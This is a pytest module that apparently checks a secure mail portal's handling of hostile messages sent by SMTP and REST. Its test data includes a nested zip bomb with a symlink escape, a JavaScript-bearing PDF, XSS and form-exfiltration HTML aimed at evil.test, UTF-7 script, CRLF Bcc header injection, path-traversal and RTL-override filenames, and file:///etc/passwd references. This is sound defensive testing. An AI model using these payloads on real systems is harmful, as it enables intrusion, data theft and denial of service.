"""Hostile messages the whole way: by SMTP or REST into a running house, to the portal's page, and an answer back.

One house for all: every message goes to a person of its own, who opens it with the agreed access code."""

import base64
import email
import email.policy
import html
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path

import msgspec
import pytest

from tests.support.house import House
from tests.support.mailers import SENDER, Smtp, message_id
from tests.support.visitor import Shown, Visitor, link_in
from tests.support.waiting import until

CODE = "Blue Heron 42"
CANARY = b"Quillfeather"
pytestmark = pytest.mark.xdist_group("through-the-house")


def lines(*of: str) -> bytes:
    return "".join(f"{line}\r\n" for line in of).encode("utf-8", "surrogateescape")


def plain(*fields: str, body: str = "Dear Jane") -> bytes:
    """A message of one part. Its own From unless one is given."""
    own = [] if any(f.lower().startswith("from:") for f in fields) else [f"From: Nora Sample <{SENDER}>"]
    subject = [] if any(f.lower().startswith("subject:") for f in fields) else ["Subject: An invented matter"]
    return lines(*own, *subject, *fields, "", body)


def mixed(*parts: bytes, mark: str = "b0") -> bytes:
    """A multipart/mixed of ready parts (header, empty line, body)."""
    head = plain("MIME-Version: 1.0", f'Content-Type: multipart/mixed; boundary="{mark}"', body="")
    return head + b"".join(f"--{mark}\r\n".encode() + part + b"\r\n" for part in parts) + f"--{mark}--\r\n".encode()


def attached(kind: str, name: str, octets: bytes, *, encoded: bytes | None = None) -> bytes:
    coded = encoded if encoded is not None else base64.encodebytes(octets).replace(b"\n", b"\r\n")
    how = (f"Content-Disposition: attachment; {name}", "Content-Transfer-Encoding: base64")
    return lines(f"Content-Type: {kind}", *how, "") + coded


TEXT = lines("Content-Type: text/plain", "", "Dear Jane")


def bomb() -> bytes:
    """20 zips in each other, the innermost 50 MB of zeros in 50 KB, and a link that leads out of its folder."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("zeros", b"\0" * 50_000_000)
        link = zipfile.ZipInfo("../../escape")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    for _ in range(20):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as made:
            made.writestr("next.zip", inner.getvalue())
        inner = outer
    return inner.getvalue()


BOMB = bomb()
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n%%EOF\n"
DOCM = b"PK\x03\x04made up"
PICTURE = b"<html><script>alert(1)</script></html>"
CALENDAR = lines(
    "BEGIN:VCALENDAR", "BEGIN:VEVENT", "DTSTART:20260101T000000Z", "RRULE:FREQ=SECONDLY;COUNT=999999999",
    "ATTACH:file:///etc/passwd", "ATTACH:http://127.0.0.1:1/fetched", "END:VEVENT", "END:VCALENDAR",
)  # fmt: skip
TEETH = (
    '<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">'
    '<style>@import "http://evil.test/a.css"; p{width:expression(alert(1))}</style>'
    '<p onclick="alert(2)" style="background:url(http://evil.test/p)">Dear Jane</p><script>alert(3)</script>'
    '<svg><foreignObject><iframe src="javascript:alert(4)"></iframe></foreignObject></svg>'
    '<a href="javascript:alert(5)">one</a><a href="data:text/html,<script>alert(6)</script>">two</a>'
    '<form action="http://evil.test/steal"><input name="ssn"></form><img src="http://evil.test/pixel.gif">'
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(7)>"
)


class Seen(msgspec.Struct, frozen=True):
    """What the person sees: the page, the text in its frame, and the attachments' names."""

    page: Shown
    frame: Shown
    files: tuple[str, ...]
    visitor: Visitor
    path: str

    @property
    def words(self) -> str:
        return html.unescape(re.sub(r"<[^>]+>", " ", self.page.text))

    def file(self, number: int = 0) -> Shown:
        found = self.visitor.get(f"{self.path}/file/{number}")
        assert found.status == 200
        assert found.fields["content-type"] == "application/octet-stream"
        assert found.fields["x-content-type-options"] == "nosniff"
        assert found.fields["content-disposition"].startswith("attachment;")
        assert "sandbox" in found.fields["content-security-policy"]
        return found


def text_is(*words: str) -> Callable[[Seen], None]:
    def look(seen: Seen) -> None:
        for word in words:
            assert word in html.unescape(seen.frame.text), word
        assert seen.files == ()

    return look


def whole(seen: Seen) -> None:
    """Not half read: the message is offered as it came."""
    assert "cannot be shown here" in seen.frame.text
    assert seen.files == ("message.eml",)
    assert b"Subject:" in seen.file().body


def files_are(names: tuple[str, ...], *octets: bytes) -> Callable[[Seen], None]:
    def look(seen: Seen) -> None:
        assert seen.files == names
        for number, expected in enumerate(octets):
            assert seen.file(number).body == expected

    return look


def one_subject(seen: Seen) -> None:
    heading = re.search(r"<h1>(.*?)</h1>", seen.page.text, re.DOTALL)
    assert heading is not None
    assert "Bcc: eve@verified.test" in heading[1] and "\n" not in heading[1]


def named(real: str, *not_there: str) -> Callable[[Seen], None]:
    def look(seen: Seen) -> None:
        said = re.sub(r"\s+", " ", seen.words)
        assert real in said and SENDER in said
        for word in not_there:
            assert word not in seen.page.text, f"U+{ord(word[0]):04X}"

    return look


def no_teeth(seen: Seen) -> None:
    assert "Dear Jane" in seen.frame.text
    for tooth in ("evil.test", "alert", "<script", "onerror", "onclick", "javascript:", "<form", "<svg", "<base",
                  "http-equiv", "@import", "expression"):  # fmt: skip
        assert tooth not in seen.frame.text, tooth
    policy = seen.frame.fields["content-security-policy"]
    assert "default-src 'none'" in policy and "sandbox" in policy and "allow-scripts" not in policy


def no_script(seen: Seen) -> None:
    assert "<script" not in seen.frame.text.lower()
    assert "+ADw-script" in seen.frame.text or "\ufffd" in seen.frame.text


def our_time(seen: Seen) -> None:
    assert "9999" not in seen.words and "1969" not in seen.words
    assert re.search(r"Sent\s+\d{1,2} \w+ 20\d\d", seen.words), seen.words


def damaged(seen: Seen) -> None:
    files_are(("scan.pdf",), b"")(seen)
    assert "damaged on its way to us and empty" in seen.words


def safe_names(seen: Seen) -> None:
    assert len(seen.files) == 4
    for number, name in enumerate(seen.files):
        assert not set(name) & set("/\\:\u202e") and len(name) <= 150 and name.upper() != "CON"
        said = seen.file(number).fields["content-disposition"]
        assert said.isascii() and "/" not in said.replace("''", "") and "%E2%80%AE" not in said
    with zipfile.ZipFile(io.BytesIO(seen.visitor.get(f"{seen.path}/files").body)) as packed:
        assert all("/" not in name and ".." not in name for name in packed.namelist())


#: id -> (the message, what its reader must see)
CASES: dict[str, tuple[bytes, Callable[[Seen], None]]] = {
    "bi-044-subject": (plain("Subject: =?UTF-8?Q?Hello=0D=0ABcc:_eve@verified.test?="), one_subject),
    "bi-048-name": (plain(f'From: "boss@good.test, eve@verified.test" <{SENDER}>'), named("boss@good.test, eve@")),
    "bi-049-comma": (plain(f"From: =?utf-8?q?Sample=2C_eve=40verified=2Etest?= <{SENDER}>"), named("Sample, eve@")),
    "bi-052-deep": (
        plain(
            "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="d0"',
            body="\r\n".join(f'--d{n}\r\nContent-Type: multipart/mixed; boundary="d{n + 1}"\r\n' for n in range(1000)),
        ),
        whole,
    ),
    "bi-052-many": (mixed(*[b"\r\nx"] * 50_000), whole),
    "bi-053-boundary": (
        plain("MIME-Version: 1.0", f'Content-Type: multipart/mixed; boundary="{"b" * 200}"', body=f"--{'b' * 200}"),
        whole,
    ),
    "bi-054-encoded": (
        plain("MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b0"', "Content-Transfer-Encoding: base64",
              body="LS1iMA0KDQp4DQotLWIwLS0="),
        whole,
    ),
    "bi-055-junk": (
        mixed(TEXT, attached("application/pdf", 'filename="scan.pdf"', b"", encoded=b"JVBE=Rg==!!\r\n")),
        damaged,
    ),
    "bi-056-names": (
        mixed(
            TEXT,
            attached("text/plain", 'filename="../../etc/passwd"', b"one"),
            attached("text/plain", "filename*=utf-8''invoice%E2%80%AEfdp.exe", b"two"),
            attached("text/plain", 'filename="CON"', b"three"),
            attached("text/plain", f'filename="{"n" * 900}.txt"', b"four"),
        ),
        safe_names,
    ),
    "bi-057-picture": (mixed(TEXT, attached("image/png", 'filename="x.png"', PICTURE)), files_are(("x.png",), PICTURE)),
    "bi-058-bomb": (
        mixed(TEXT, attached("application/zip", 'filename="photos.zip"', BOMB)), files_are(("photos.zip",), BOMB)
    ),
    "bi-059-macro": (
        mixed(
            TEXT, attached("application/pdf", 'filename="form.pdf"', PDF),
            attached("application/vnd.ms-word.document.macroEnabled.12", 'filename="letter.docm"', DOCM),
        ),
        files_are(("form.pdf", "letter.docm"), PDF, DOCM),
    ),
    "bi-060-partial": (
        plain("MIME-Version: 1.0", 'Content-Type: message/partial; id="x"; number=1; total=2', body="half"), whole,
    ),
    "bi-060-external": (
        plain("MIME-Version: 1.0", 'Content-Type: message/external-body; access-type=URL; URL="http://evil.test/"'),
        whole,
    ),
    "bi-060-tnef": (
        mixed(TEXT, attached("application/ms-tnef", 'filename="winmail.dat"', b"\x78\x9f\x3e\x22made up")),
        files_are(("winmail.dat",), b"\x78\x9f\x3e\x22made up"),
    ),
    "bi-061-utf7": (
        plain("MIME-Version: 1.0", "Content-Type: text/html; charset=utf-7", body="+ADw-script+AD4-alert(1)"),
        no_script,
    ),
    "bi-061-unknown": (
        plain("MIME-Version: 1.0", "Content-Type: text/plain; charset=x-made-up", body="Dear Jane \udced\udca0\udc80"),
        text_is("Dear Jane"),
    ),
    "bi-062-html": (plain("MIME-Version: 1.0", "Content-Type: text/html", body=TEETH), no_teeth),
    "bi-063-sender": (
        plain(f"From: \u202eknaB\u202c P\u0430yp\u0430l \u200f<{SENDER}>"),
        named("p\u0430l", "\u202e", "\u202c", "\u200f"),
    ),
    "bi-065-year": (plain("Date: Fri, 31 Dec 9999 23:59:59 +0000", "Message-ID: <same@clinic.test>"), our_time),
    "bi-065-before": (plain("Date: Thu, 1 Jan -001 00:00:00 +0000", "Message-ID: <same@clinic.test>"), our_time),
    "bi-065-long": (plain("Message-ID: <" + "\r\n ".join(["x" * 900] * 11) + "@clinic.test>"), our_time),
    "bi-066-calendar": (
        mixed(
            TEXT, attached("text/calendar; method=REQUEST", 'filename="visit.ics"', CALENDAR),
            attached("text/vcard", 'filename="c.vcf"', b"BEGIN:VCARD\r\nPHOTO:file:///etc/passwd\r\nEND:VCARD\r\n"),
        ),
        files_are(("visit.ics", "c.vcf"), CALENDAR),
    ),
}  # fmt: skip


class Outcome(msgspec.Struct, frozen=True):
    message: str
    recipient: str


@pytest.fixture(scope="module")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    with House(tmp_path_factory.mktemp("through")) as running:
        yield running


@pytest.fixture(scope="module")
def accepted(house: House) -> dict[str, Outcome]:
    """Every case handed over by SMTP."""
    found: dict[str, Outcome] = {}
    smtp = Smtp(house)
    for case, (raw, _) in CASES.items():
        to = f"{case}@selfsigned.test"
        smtp.say(*smtp.envelope(to))
        assert [smtp.reply()[0] for _ in range(3)] == [250, 250, 354]
        smtp.say(f"X-Carepost-Access-Code: {CODE}".encode() + b"\r\n" + raw.replace(b"\r\n.", b"\r\n.."), b".\r\n")
        code, said = smtp.reply()
        assert code == 250, (case, code, said)
        found[case] = Outcome(message_id(said), to)
    smtp.close()
    return found


def opened(house: House, to: str) -> Seen:
    """From the notice to the message."""
    [notice] = house.arrived(to)
    path = link_in(house.raw(notice["id"]))
    visitor = Visitor(house)
    assert visitor.post(f"{path}/prove", path, answer=CODE).status == 302
    page = visitor.get(f"{path}/read")
    assert page.status == 200, page.text
    source = re.search(r'<iframe[^>]*src="([^"]+)"', page.text)
    assert source is not None
    frame = visitor.get(html.unescape(source[1]))
    assert frame.status == 200
    names = re.findall(r'<span class="cp-name">(.*?)</span>', page.text, re.DOTALL)
    return Seen(page, frame, tuple(html.unescape(name) for name in names), visitor, path)


@pytest.mark.parametrize("case", CASES)
def test_what_the_reader_sees_and_what_comes_back(house: House, accepted: dict[str, Outcome], case: str) -> None:
    """BI-044, BI-048, BI-049, BI-052..063, BI-065, BI-066: by SMTP to the page and back."""
    seen = opened(house, accepted[case].recipient)
    CASES[case][1](seen)
    assert seen.visitor.post(f"{seen.path}/reply", text=f"Thank you for {case}").status == 302
    mail = answer_to(house, case)
    assert [a.addr_spec for a in mail["To"].addresses] == [SENDER]
    assert [a.addr_spec for a in mail["From"].addresses] == ["portal@clinic.test"]
    assert mail["Bcc"] is None and mail["Cc"] is None
    assert mail["Subject"].startswith("Re: ") and "\n" not in mail["Subject"]
    assert all(len(line) <= 998 for line in mail.as_bytes().splitlines())


def answer_to(house: House, case: str) -> EmailMessage:
    """The answer as it lies in the sender's mailbox, where reports may lie too."""

    def look() -> EmailMessage | None:
        for one in house.mails(SENDER):
            mail = email.message_from_bytes(house.raw(one["id"]), policy=email.policy.default)
            assert isinstance(mail, EmailMessage)
            body = mail.get_body(("plain",))
            if body is not None and f"Thank you for {case}" in body.get_content().splitlines():
                return mail
        return None

    found = until(look, within=30, what=f"the answer to {case} arrives")
    assert found is not None
    return found


def test_nobody_else_got_anything_and_nothing_was_fetched(house: House, accepted: dict[str, Outcome]) -> None:
    """BI-044, BI-048: an address inside a subject or a name is nobody's mail; BI-058: the bomb was not opened."""
    assert len(accepted) == len(CASES)
    assert house.mails("eve@verified.test") == [] and house.mails(domain="good.test") == []
    for role in ("engine", "journal", "outside"):
        status = Path(f"/proc/{house.pid(role)}/status").read_text()
        [peak] = re.findall(r"VmHWM:\s+(\d+) kB", status)
        assert int(peak) < 250_000, f"{role} once held {peak} kB"


def test_two_messages_of_one_message_id_are_two(house: House, accepted: dict[str, Outcome]) -> None:
    """BI-065: nothing is overwritten; our own ids tell them apart."""
    assert accepted["bi-065-year"].message != accepted["bi-065-before"].message
    for case in ("bi-065-year", "bi-065-before"):
        status, view = house.request("GET", f"/api/v1/messages/{accepted[case].message}")
        assert status == 200 and view["id"] == accepted[case].message


def test_the_same_by_rest(house: House) -> None:
    """BI-056, BI-057, BI-059, BI-061, BI-062, BI-066: what the API composes is shown no differently."""
    files = [
        {"filename": name, "content": base64.b64encode(octets).decode(), "content_type": kind}
        for name, kind, octets in (
            ("..\\..\\win.ini", "text/plain", b"one"), ("x.png", "image/png", PICTURE),
            ("f.pdf", "application/pdf", PDF), ("visit.ics", "text/calendar", CALENDAR),
        )
    ]  # fmt: skip
    to = "by-rest@selfsigned.test"
    body = {"from": SENDER, "to": [to], "subject": "Hello\u2028Bcc: eve@verified.test", "text": "x"}
    assert house.request("POST", "/api/v1/messages", body)[0] == 422
    house.send(to, text="Dear Jane", html=TEETH, attachments=files, protection={"access": {"code": CODE}})
    seen = opened(house, to)
    no_teeth(seen)
    assert seen.files[1:] == ("x.png", "f.pdf", "visit.ics") and "\\" not in seen.files[0]
    assert [seen.file(n).body for n in range(4)] == [b"one", PICTURE, PDF, CALENDAR]
    assert house.mails("eve@verified.test") == []


def test_an_upload_in_a_reply_is_as_tame(house: House) -> None:
    """BI-056, BI-057: a name and a type a stranger chose, on their way to a member of staff."""
    to = "uploads@selfsigned.test"
    house.send(to, protection={"access": {"code": CODE}})
    seen = opened(house, to)
    name = "..%2F..\u202efdp.exe"
    answer = seen.visitor.post(
        f"{seen.path}/reply", text="Thank you for uploads", file=(name, "text/html\t;x", PICTURE)
    )
    assert answer.status == 302
    mail = answer_to(house, "uploads")
    [file] = list(mail.iter_attachments())
    assert file.get_content_disposition() == "attachment"
    assert "\u202e" not in (file.get_filename() or "") and "/" not in (file.get_filename() or "")
    assert file.get_payload(decode=True) == PICTURE


def test_no_byte_of_it_is_in_a_log(house: House) -> None:
    for word in ("eve@verified.test", "passwd", "Dear Jane", "evil.test", CODE):
        assert word not in house.logs(), word
